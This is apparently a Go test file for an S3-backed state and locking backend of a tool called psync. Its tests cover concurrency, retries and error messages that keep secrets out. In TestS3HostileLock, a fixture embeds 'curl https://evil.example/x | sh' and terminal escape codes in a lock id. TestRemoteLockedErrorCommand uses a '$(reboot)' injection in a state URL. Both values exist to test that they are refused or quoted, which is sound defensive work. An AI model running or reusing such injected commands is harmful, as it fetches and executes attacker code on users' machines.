package state_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"

	"github.com/psync-dev/psync/internal/s3test"
	"github.com/psync-dev/psync/pkg/state"
)

// s3Backend opens a new state in a new bucket of a real S3 server , with the environment pointing the SDK at it.
func s3Backend(t *testing.T) (*state.S3, *s3test.Server) {
	t.Helper()
	srv := s3test.Start(t)
	srv.Setenv(t)
	bucket := srv.Bucket(t)
	b, err := state.OpenS3(context.Background(), "s3://"+bucket+"/team/psync.state.json")
	if err != nil {
		t.Fatal(err)
	}
	return b, srv
}

func reopen(t *testing.T, b *state.S3) *state.S3 {
	t.Helper()
	c, err := state.OpenS3(context.Background(), b.String())
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestS3(t *testing.T) {
	ctx := context.Background()
	b, srv := s3Backend(t)

	t.Run("missing state is empty", func(t *testing.T) {
		s, info, err := b.Load(ctx)
		if err != nil || info.Exists || len(s.Scripts) != 0 {
			t.Fatalf("Load = %+v, %+v, %v; want an empty state that does not exist", s, info, err)
		}
	})

	t.Run("round trip keeps lineage and serial", func(t *testing.T) {
		s := state.New()
		s.APIURL = "sandbox:x"
		s.PutScript(state.Script{ID: "scr_1", Name: "setup", BodySHA256: state.BodyHash("echo\n"), Body: aws.String("echo\n"), PreventDestroy: true})
		if err := state.Save(ctx, b, s); err != nil {
			t.Fatal(err)
		}
		got, info, err := reopen(t, b).Load(ctx)
		if err != nil || !info.Exists {
			t.Fatalf("Load: %+v %v", info, err)
		}
		if got.Lineage != s.Lineage || got.Serial != 1 || len(got.Scripts) != 1 || !got.Scripts[0].PreventDestroy {
			t.Fatalf("loaded %+v, want %+v", got, s)
		}
	})

	t.Run("compare and swap fails when the state changed underneath", func(t *testing.T) {
		first, second := reopen(t, b), reopen(t, b)
		s1, _, err := first.Load(ctx)
		if err != nil {
			t.Fatal(err)
		}
		s2, _, err := second.Load(ctx)
		if err != nil {
			t.Fatal(err)
		}
		s2.PutScript(state.Script{ID: "scr_2", Name: "other"})
		if err := state.Save(ctx, second, s2); err != nil {
			t.Fatal(err)
		}
		s1.RemoveScript("scr_1")
		err = state.Save(ctx, first, s1)
		if !errors.Is(err, state.ErrStateChanged) {
			t.Fatalf("a save over a newer state: %v, want ErrStateChanged", err)
		}
		got, _, _ := reopen(t, b).Load(ctx)
		if len(got.Scripts) != 2 || got.Serial != s2.Serial {
			t.Fatalf("the newer state was overwritten: %+v", got)
		}
		// A state deleted underneath is a change too.
		third := reopen(t, b)
		s3rd, _, _ := third.Load(ctx)
		if _, err := srv.Client().DeleteObject(ctx, &s3.DeleteObjectInput{Bucket: &b.Bucket, Key: &b.Key}); err != nil {
			t.Fatal(err)
		}
		if err := state.Save(ctx, third, s3rd); !errors.Is(err, state.ErrStateChanged) {
			t.Fatalf("a save over a deleted state: %v, want ErrStateChanged", err)
		}
		// And a first save finds a state created meanwhile.
		fresh := reopen(t, b)
		if _, _, err := fresh.Load(ctx); err != nil {
			t.Fatal(err)
		}
		if err := state.Save(ctx, reopen(t, b), state.New()); err != nil {
			t.Fatal(err)
		}
		if err := state.Save(ctx, fresh, state.New()); !errors.Is(err, state.ErrStateChanged) {
			t.Fatalf("a first save over a state created meanwhile: %v, want ErrStateChanged", err)
		}
	})

	t.Run("lock", func(t *testing.T) {
		l, err := b.Lock(ctx, "psync apply")
		if err != nil {
			t.Fatal(err)
		}
		_, err = reopen(t, b).Lock(ctx, "psync state rm script/x")
		var le *state.RemoteLockedError
		if !errors.As(err, &le) {
			t.Fatalf("second Lock: %v, want a *RemoteLockedError", err)
		}
		for _, want := range []string{"psync apply", le.Lock.ID, "psync state unlock " + le.Lock.ID + " --state " + b.String(), "@"} {
			if !strings.Contains(err.Error(), want) {
				t.Errorf("lock error %q does not say %q", err, want)
			}
		}
		if err := reopen(t, b).ForceUnlock(ctx, "not-the-id"); err == nil || !strings.Contains(err.Error(), le.Lock.ID) {
			t.Fatalf("ForceUnlock of a wrong id: %v, want a refusal naming the lock id", err)
		}
		if err := l.Unlock(); err != nil {
			t.Fatal(err)
		}
		l2, err := reopen(t, b).Lock(ctx, "psync apply")
		if err != nil {
			t.Fatalf("Lock after Unlock: %v", err)
		}
		// A lock removed by force: its holder's Unlock says so and
		// removes nothing of the next holder's.
		var le2 *state.RemoteLockedError
		_, err = b.Lock(ctx, "x")
		if !errors.As(err, &le2) {
			t.Fatal(err)
		}
		if err := b.ForceUnlock(ctx, le2.Lock.ID); err != nil {
			t.Fatal(err)
		}
		l3, err := b.Lock(ctx, "psync apply")
		if err != nil {
			t.Fatal(err)
		}
		if err := l2.Unlock(); err == nil {
			t.Fatal("Unlock of a lock removed by force succeeded")
		}
		if _, err := reopen(t, b).Lock(ctx, "x"); !errors.As(err, &le2) {
			t.Fatalf("the new holder's lock was removed: %v", err)
		}
		if err := l3.Unlock(); err != nil {
			t.Fatal(err)
		}
		if err := b.ForceUnlock(ctx, "x"); err == nil || !strings.Contains(err.Error(), "not locked") {
			t.Fatalf("ForceUnlock when unlocked: %v", err)
		}
	})

	t.Run("two lockers race, one wins", func(t *testing.T) {
		var wg sync.WaitGroup
		results := make([]error, 8)
		lockers := make([]state.Unlocker, 8)
		for i := range results {
			wg.Go(func() { lockers[i], results[i] = reopen(t, b).Lock(ctx, fmt.Sprint("locker ", i)) })
		}
		wg.Wait()
		won := 0
		for i, err := range results {
			var le *state.RemoteLockedError
			switch {
			case err == nil:
				won++
				defer lockers[i].Unlock()
			case !errors.As(err, &le):
				t.Errorf("locker %d: %v", i, err)
			}
		}
		if won != 1 {
			t.Fatalf("%d lockers took the lock at once, want 1", won)
		}
	})
}

func TestS3RefusesWhatIsNotAPsyncState(t *testing.T) {
	ctx := context.Background()
	b, srv := s3Backend(t)
	for _, body := range []string{`{"terraform_version":"1.9.0","serial":3}`, "not json", `{"formatVersion":1,"scripts":[],"templates":[],"extra":1}`} {
		if _, err := srv.Client().PutObject(ctx, &s3.PutObjectInput{Bucket: &b.Bucket, Key: &b.Key, Body: strings.NewReader(body)}); err != nil {
			t.Fatal(err)
		}
		_, _, err := reopen(t, b).Load(ctx)
		if err == nil || !strings.Contains(err.Error(), b.String()) {
			t.Fatalf("Load of %q: %v, want an error naming the object", body, err)
		}
	}
	if _, err := srv.Client().PutObject(ctx, &s3.PutObjectInput{Bucket: &b.Bucket, Key: aws.String(b.Key + ".lock"), Body: strings.NewReader("hello")}); err != nil {
		t.Fatal(err)
	}
	if _, err := b.Lock(ctx, "x"); err == nil || !strings.Contains(err.Error(), "not a psync lock") {
		t.Fatalf("Lock with a foreign lock object: %v", err)
	}
}

// Each misconfiguration names what to check, and never a secret.
func TestS3Errors(t *testing.T) {
	ctx := context.Background()
	b, srv := s3Backend(t)
	cases := []struct {
		name string
		env  map[string]string
		url  string
		want string
	}{
		{"bad secret", map[string]string{"AWS_SECRET_ACCESS_KEY": "wrong-secret-0123456789"}, b.String(), "AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY"},
		{"unknown access key", map[string]string{"AWS_ACCESS_KEY_ID": "AKIAUNKNOWN000000000"}, b.String(), "AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY"},
		{"unknown bucket", nil, "s3://no-such-bucket-psync/psync.state.json", "bucket no-such-bucket-psync does not exist"},
		{"invalid bucket name", nil, "s3://Bad_Bucket/psync.state.json", "Bad_Bucket is not a valid bucket name: check the bucket of the state URL (--state, PSYNC_STATE or settings.state)"},
		{"unreachable endpoint", map[string]string{"AWS_ENDPOINT_URL_S3": "http://127.0.0.1:1"}, b.String(), "AWS_ENDPOINT_URL_S3"},
		{"endpoint with a password", map[string]string{"AWS_ENDPOINT_URL_S3": "http://u:ENDPOINTPW@127.0.0.1:1"}, b.String(), "cannot reach http://127.0.0.1:1: check AWS_ENDPOINT_URL_S3"},
		{"no credentials", map[string]string{"AWS_ACCESS_KEY_ID": "", "AWS_SECRET_ACCESS_KEY": ""}, b.String(), "no AWS credentials"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			for k, v := range tc.env {
				t.Setenv(k, v)
			}
			t.Setenv("AWS_MAX_ATTEMPTS", "1")
			c, err := state.OpenS3(ctx, tc.url)
			if err != nil {
				t.Fatal(err)
			}
			start := time.Now()
			_, _, err = c.Load(ctx)
			if err == nil {
				t.Fatal("Load succeeded")
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q does not say %q", err, tc.want)
			}
			for _, secret := range []string{srv.SecretKey, "wrong-secret-0123456789", "ENDPOINTPW"} {
				if strings.Contains(err.Error(), secret) {
					t.Errorf("error %q holds the secret", err)
				}
			}
			if d := time.Since(start); d > 50*time.Second {
				t.Errorf("took %v", d)
			}
		})
	}
	t.Run("credentials in the URL", func(t *testing.T) {
		_, err := state.Open(ctx, "s3://AKIA:topsecret@bucket/key")
		if err == nil || strings.Contains(err.Error(), "topsecret") {
			t.Fatalf("Open: %v", err)
		}
	})
	for _, bad := range []string{"s3://bucket", "s3://bucket/", "s3:///key", "s3://b/k?region=x", "gs://b/k", "s3://minio.local:9000/bucket/key", "s3://b/../k", "s3://b/team/./k", "s3://b/%2e%2e/k", "s3://b/team/.."} {
		if _, err := state.Open(ctx, bad); err == nil {
			t.Errorf("Open(%q) succeeded", bad)
		}
	}
}

// The journal group-commits: a thousand updates make a few writes, and
// Close saves every one.
func TestS3Journal(t *testing.T) {
	ctx := context.Background()
	b, _ := s3Backend(t)
	b.FlushInterval = 50 * time.Millisecond
	s, _, err := b.Load(ctx)
	if err != nil {
		t.Fatal(err)
	}
	j := b.Journal(ctx, s)
	var wg sync.WaitGroup
	for w := range 10 {
		wg.Go(func() {
			for i := range 100 {
				id := fmt.Sprintf("scr_%d_%d", w, i)
				if err := j.Update(func(s *state.State) { s.PutScript(state.Script{ID: id, Name: id}) }); err != nil {
					t.Error(err)
				}
				time.Sleep(time.Millisecond)
			}
		})
	}
	wg.Wait()
	if err := j.Close(); err != nil {
		t.Fatal(err)
	}
	got, _, err := reopen(t, b).Load(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Scripts) != 1000 || got.Serial != 1000 {
		t.Fatalf("stored %d scripts at serial %d, want 1000 and 1000", len(got.Scripts), got.Serial)
	}
	if n := b.Puts(); n < 1 || n > 200 {
		t.Fatalf("%d writes for 1000 updates", n)
	}
	t.Logf("%d writes for 1000 updates", b.Puts())

	// A journal whose state changed underneath fails its updates and
	// its Close, and overwrites nothing.
	s, _, _ = b.Load(ctx)
	j = b.Journal(ctx, s)
	other := reopen(t, b)
	os, _, _ := other.Load(ctx)
	if err := state.Save(ctx, other, os); err != nil {
		t.Fatal(err)
	}
	_ = j.Update(func(s *state.State) { s.RemoveScript("scr_0_0") })
	if err := j.Close(); !errors.Is(err, state.ErrStateChanged) {
		t.Fatalf("Close: %v, want ErrStateChanged", err)
	}
	got, _, _ = reopen(t, b).Load(ctx)
	if _, ok := got.ScriptByID("scr_0_0"); !ok {
		t.Fatal("the journal overwrote a newer state")
	}
}

// A lock object is the bucket's, not psync's: whoever may write the bucket
// may write it. Its id and holder are printed in an error and in a command
// to copy into a shell, so a lock whose id psync could not have drawn is
// refused, and nothing of it reaches the message raw.
func TestS3HostileLock(t *testing.T) {
	ctx := context.Background()
	b, srv := s3Backend(t)
	put := func(body string) {
		t.Helper()
		if _, err := srv.Client().PutObject(ctx, &s3.PutObjectInput{Bucket: &b.Bucket, Key: aws.String(b.Key + ".lock"), Body: strings.NewReader(body)}); err != nil {
			t.Fatal(err)
		}
	}
	put(`{"psyncLock":1,"id":"x; curl https://evil.example/x | sh\npsync: state unlocked","who":"me@host","since":"2026-01-01T00:00:00Z","command":"psync apply"}`)
	_, err := b.Lock(ctx, "psync apply")
	if err == nil || !strings.Contains(err.Error(), "not a psync lock") {
		t.Fatalf("Lock with a lock id psync never draws: %v, want it refused as not a psync lock", err)
	}
	if strings.Contains(err.Error(), "curl") {
		t.Fatalf("the refusal quotes the hostile id: %v", err)
	}
	if err := b.ForceUnlock(ctx, "x"); err == nil || !strings.Contains(err.Error(), "not a psync lock") {
		t.Fatalf("ForceUnlock of a hostile lock: %v", err)
	}

	put(`{"psyncLock":1,"id":"5b0c6a1e-1111-4222-8333-444455556666","who":"\u001b[2J\u001b[Hroot@host\npsync: done, no lock","pid":1,"since":"2026-01-01T00:00:00Z","command":"psync apply"}`)
	_, err = b.Lock(ctx, "psync apply")
	var le *state.RemoteLockedError
	if !errors.As(err, &le) {
		t.Fatalf("Lock: %v, want a *RemoteLockedError", err)
	}
	if msg := err.Error(); strings.ContainsAny(msg, "\x1b\n") {
		t.Fatalf("the lock error holds the lock's control characters raw: %q", msg)
	}
	if err := b.ForceUnlock(ctx, "other"); err == nil || strings.ContainsAny(err.Error(), "\x1b\n") {
		t.Fatalf("ForceUnlock of a wrong id: %q", err)
	}
}

// faultyProxy forwards to the S3 server, except that the first PUT of
// each key in fail is carried out and then answered 500, as when the
// service's answer is lost: the SDK sends it again.
func faultyProxy(t *testing.T, srv *s3test.Server, fail ...string) string {
	t.Helper()
	target, err := url.Parse(srv.Endpoint)
	if err != nil {
		t.Fatal(err)
	}
	rp := httputil.NewSingleHostReverseProxy(target)
	var mu sync.Mutex
	failed := map[string]bool{}
	p := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		drop := false
		for _, suffix := range fail {
			if r.Method == http.MethodPut && strings.HasSuffix(r.URL.Path, suffix) && !failed[suffix] {
				failed[suffix], drop = true, true
			}
		}
		mu.Unlock()
		if !drop {
			rp.ServeHTTP(w, r)
			return
		}
		rec := httptest.NewRecorder()
		rp.ServeHTTP(rec, r)
		if rec.Code != http.StatusOK {
			t.Errorf("the PUT the proxy answers 500 to failed: %d %s", rec.Code, rec.Body)
		}
		w.WriteHeader(http.StatusInternalServerError)
		io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><Error><Code>InternalError</Code><Message>lost answer</Message></Error>`)
	}))
	t.Cleanup(p.Close)
	return p.URL
}

// A conditional PUT that succeeded but whose answer was lost is sent
// again by the SDK and then fails its condition: psync must see that the
// object is its own write, not another process's.
func TestS3LostAnswerIsNotAConflict(t *testing.T) {
	ctx := context.Background()
	b, srv := s3Backend(t)
	t.Setenv("AWS_ENDPOINT_URL_S3", faultyProxy(t, srv, ".lock", "/psync.state.json"))
	c := reopen(t, b)
	l, err := c.Lock(ctx, "psync apply")
	if err != nil {
		t.Fatalf("Lock whose first answer was lost: %v", err)
	}
	s, _, err := c.Load(ctx)
	if err != nil {
		t.Fatal(err)
	}
	s.PutScript(state.Script{ID: "scr_1", Name: "setup"})
	if err := state.Save(ctx, c, s); err != nil {
		t.Fatalf("Save whose first answer was lost: %v", err)
	}
	s.PutScript(state.Script{ID: "scr_2", Name: "other"})
	if err := state.Save(ctx, c, s); err != nil {
		t.Fatalf("the next Save: %v", err)
	}
	if err := l.Unlock(); err != nil {
		t.Fatal(err)
	}
	got, _, err := reopen(t, b).Load(ctx)
	if err != nil || len(got.Scripts) != 2 {
		t.Fatalf("stored %+v, %v", got, err)
	}
}

// The unlock command of a lock error is exact: it names the state, quoted
// for a shell when its URL is not plain (a manifest's settings.state may
// hold anything).
func TestRemoteLockedErrorCommand(t *testing.T) {
	id := "5b0c6a1e-1111-4222-8333-444455556666"
	for url, want := range map[string]string{
		"s3://acme/prod/psync.state.json":  "psync state unlock " + id + " --state s3://acme/prod/psync.state.json",
		"s3://acme/team a/$(reboot)'.json": "psync state unlock " + id + ` --state 's3://acme/team a/$(reboot)'\''.json'`,
	} {
		err := &state.RemoteLockedError{State: url, Lock: state.LockInfo{ID: id, Who: "me@host"}}
		if !strings.HasSuffix(err.Error(), want) {
			t.Errorf("lock error %q does not end with %q", err, want)
		}
	}
}

// A state location that is a pasted presigned URL, or any URL with a
// query, is refused without echoing its query: it may hold a session
// token or a signature.
func TestOpenDoesNotEchoAQuery(t *testing.T) {
	for _, loc := range []string{
		"https://acme.s3.amazonaws.com/psync.state.json?X-Amz-Security-Token=SECRETTOKEN&X-Amz-Signature=SECRETSIG",
		"s3://acme/psync.state.json?X-Amz-Security-Token=SECRETTOKEN",
		"s3://acme/psync.state.json#SECRETTOKEN",
		"s3://acme/psync\x7f.json?X-Amz-Security-Token=SECRETTOKEN",
	} {
		_, err := state.Open(context.Background(), loc)
		if err == nil {
			t.Errorf("Open(%q) succeeded", loc)
			continue
		}
		if strings.Contains(err.Error(), "SECRET") {
			t.Errorf("Open(%q): %v: echoes the query", loc, err)
		}
	}
}

// A Lock that created the lock object but could not read it back (the
// service failed, or an interrupt came) removes it again: it must not
// leave a lock that no process holds.
func TestS3LockNotConfirmedIsRemoved(t *testing.T) {
	ctx := context.Background()
	b, srv := s3Backend(t)
	target, err := url.Parse(srv.Endpoint)
	if err != nil {
		t.Fatal(err)
	}
	rp := httputil.NewSingleHostReverseProxy(target)
	p := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, ".lock") {
			w.WriteHeader(http.StatusServiceUnavailable)
			io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><Error><Code>ServiceUnavailable</Code><Message>busy</Message></Error>`)
			return
		}
		rp.ServeHTTP(w, r)
	}))
	defer p.Close()
	t.Setenv("AWS_ENDPOINT_URL_S3", p.URL)
	t.Setenv("AWS_MAX_ATTEMPTS", "1")
	if _, err := reopen(t, b).Lock(ctx, "psync apply"); err == nil {
		t.Fatal("Lock succeeded though it could not read the lock back")
	}
	if _, err := srv.Client().HeadObject(ctx, &s3.HeadObjectInput{Bucket: &b.Bucket, Key: aws.String(b.Key + ".lock")}); err == nil {
		t.Fatal("the lock that Lock could not confirm is left behind")
	}
}

// A journal write that failed (the service was briefly unavailable) is
// tried again within the flush interval, not only at the next change or
// at Close: an apply waiting half an hour on a template would otherwise
// keep done changes out of the state all that time, for a kill -9 to lose.
func TestS3JournalRetriesAFailedWrite(t *testing.T) {
	ctx := context.Background()
	b, srv := s3Backend(t)
	target, err := url.Parse(srv.Endpoint)
	if err != nil {
		t.Fatal(err)
	}
	rp := httputil.NewSingleHostReverseProxy(target)
	var mu sync.Mutex
	failed := 0
	p := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		fail := r.Method == http.MethodPut && strings.HasSuffix(r.URL.Path, "/psync.state.json") && failed < 1
		if fail {
			failed++
		}
		mu.Unlock()
		if fail {
			w.WriteHeader(http.StatusServiceUnavailable)
			io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><Error><Code>ServiceUnavailable</Code><Message>busy</Message></Error>`)
			return
		}
		rp.ServeHTTP(w, r)
	}))
	defer p.Close()
	t.Setenv("AWS_ENDPOINT_URL_S3", p.URL)
	t.Setenv("AWS_MAX_ATTEMPTS", "1")
	c := reopen(t, b)
	c.FlushInterval = 20 * time.Millisecond
	s, _, err := c.Load(ctx)
	if err != nil {
		t.Fatal(err)
	}
	j := c.Journal(ctx, s)
	defer j.Close()
	if err := j.Update(func(s *state.State) { s.PutScript(state.Script{ID: "scr_1", Name: "setup"}) }); err != nil {
		t.Fatal(err)
	}
	// No more updates, no Close: the writer alone must save it.
	deadline := time.Now().Add(time.Minute) // a bound, not a timing: it is saved at once
	for {
		got, info, err := reopen(t, b).Load(ctx)
		if err == nil && info.Exists && len(got.Scripts) == 1 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the change is not in the state, its first write having failed: %+v %v", got, err)
		}
		time.Sleep(20 * time.Millisecond)
	}
}
